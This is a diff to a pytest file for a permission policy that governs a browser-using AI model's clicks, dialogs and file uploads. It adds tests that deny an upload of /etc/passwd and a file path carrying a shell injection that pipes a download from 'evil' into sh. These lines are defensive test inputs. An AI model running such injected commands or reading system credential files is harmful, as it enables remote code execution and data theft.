@@ -1,12 +1,13 @@
 """The rules, over plain facts."""
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from handrail.browser.types import ElementFacts
-from handrail.policy import Allow, Deny, Facts, FileFacts, Request, decide
+from handrail.policy import Allow, Deny, DialogFacts, Facts, FileFacts, Request, decide
 from handrail.trust import External
 
 CLICK = Request("model", "ask", "click", "change", "click", offered_in_ask=False)
@@ -54,7 +55,7 @@ def test_in_ask_mode_the_users_own_navigation_is_theirs_and_a_models_is_not():
 
 
 def test_act_mode_allows_a_click():
-    assert decide(replace(CLICK, mode="act"), NOWHERE) == Allow("act_mode")
+    assert decide(replace(CLICK, mode="act"), NOWHERE) == Allow("no_rule_objects")
 
 
 @pytest.mark.parametrize("asker", ["user", "model"])
@@ -75,3 +76,39 @@ def test_a_folder_whose_name_begins_alike_is_another_folder(tmp_path: Path):
     facts = replace(NOWHERE, file=FileFacts(tmp_path.with_name(tmp_path.name + "-private") / "x", (tmp_path,)))
     decision = decide(Request("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Deny)
+
+
+def test_in_ask_mode_a_change_is_a_change_whatever_its_record_offers():
+    assert isinstance(decide(replace(CLICK, tool="poke", offered_in_ask=True), NOWHERE), Deny)
+
+
+def test_in_ask_mode_the_rules_that_follow_are_asked_too(tmp_path: Path):
+    facts = replace(NOWHERE, file=FileFacts(Path("/etc/passwd"), (tmp_path,)))
+    sly = Request("model", "ask", "sly", "read", "upload", offered_in_ask=True)
+    assert isinstance(decide(sly, facts), Deny)
+
+
+@pytest.mark.parametrize(
+    ("kind", "accepts", "allowed"),
+    [
+        ("alert", True, True),
+        ("alert", False, True),
+        ("confirm", False, True),
+        ("prompt", False, True),
+        ("confirm", True, False),
+        ("prompt", True, False),
+        ("beforeunload", True, False),
+        ("beforeunload", False, False),
+    ],
+)
+def test_in_ask_mode_a_dialog_may_be_put_away_but_not_agreed_to(kind, accepts, allowed):
+    call = replace(CLICK, tool="dialog", capability="dialog")
+    decision = decide(call, replace(NOWHERE, dialog=DialogFacts(kind, accepts)))
+    assert isinstance(decision, Allow) is allowed
+
+
+def test_a_remedy_is_one_word_of_a_shell_whatever_path_a_model_composed(tmp_path: Path):
+    facts = replace(NOWHERE, file=FileFacts(Path("/tmp/$(curl evil|sh); echo /x"), (tmp_path,)))
+    decision = decide(Request("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
+    assert isinstance(decision, Deny)
+    assert shlex.split(decision.remedy) == ["--upload-dir", str(Path("/tmp/$(curl evil|sh); echo"))]
